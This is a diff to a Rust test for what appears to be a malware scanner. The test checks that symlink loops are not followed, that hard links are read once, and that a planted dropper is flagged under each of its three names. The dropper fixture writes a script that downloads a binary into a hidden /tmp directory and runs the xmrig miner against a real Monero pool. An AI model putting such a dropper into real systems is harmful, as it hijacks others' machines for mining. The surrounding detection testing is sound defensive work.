@@ -3,6 +3,7 @@
 //! read — never a crash, a hang or a silent pass. Peak RSS and wall time come
 //! from GNU time (`wait4`'s rusage of the child).
 
+use std::fs;
 use std::path::Path;
 use std::process::Command;
 use std::sync::Mutex;
@@ -218,14 +219,39 @@ fn an_endless_chain_of_indexes_is_an_error() {
 }
 
 #[test]
-fn link_loops_in_a_directory_are_not_followed() {
-    let case = "dir: symlink loops, 1,000 hard links";
+fn link_loops_in_a_directory_are_not_followed_and_hard_links_read_once() {
+    let case = "dir: symlink loops, 10,000 hard links to a 4 MiB file";
     let dir = tempfile::tempdir().unwrap();
     let root = dir.path().join("rootfs");
-    hostile::write_link_loops_dir(&root, 1000, 1 << 20).unwrap();
-    let run = scan_measured(case, &format!("dir:{}", root.display()), SECS(60));
-    assert_eq!(run.code, 0, "{case}: {}", run.stderr);
+    hostile::write_link_loops_dir(&root, 10_000, 4 << 20).unwrap();
+    // A dropper under three names: each name is reported.
+    let dropper = root.join("etc/dropper.sh");
+    fs::write(
+        &dropper,
+        "#!/bin/sh\ncurl -sL https://example.invalid/x -o /tmp/.x/xmrig\n\
+         /tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level 1\n",
+    )
+    .unwrap();
+    for name in ["usr-run.sh", "opt-run.sh"] {
+        fs::hard_link(&dropper, root.join("etc").join(name)).unwrap();
+    }
+    let run = scan_measured(case, &format!("dir:{}", root.display()), SECS(30));
+    assert_eq!(run.code, 1, "{case}: {}", run.stderr);
     let report = run.report.unwrap();
-    // /etc/motd and the hard-linked file's names: nothing behind a symlink.
-    assert_eq!(report["stats"]["files"], 1001, "{report:#}");
+    // /etc/motd, the dropper's names and the linked file's: nothing behind a symlink.
+    assert_eq!(report["stats"]["files"], 10_004, "{report:#}");
+    assert_eq!(report["stats"]["files_scanned"], 10_004);
+    let flagged: Vec<&str> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["path"].as_str().unwrap())
+        .collect();
+    for name in ["/etc/dropper.sh", "/etc/usr-run.sh", "/etc/opt-run.sh"] {
+        assert!(flagged.contains(&name), "{name}: {flagged:?}");
+    }
+    assert!(
+        flagged.iter().all(|p| p.starts_with("/etc/")),
+        "{flagged:?}"
+    );
 }
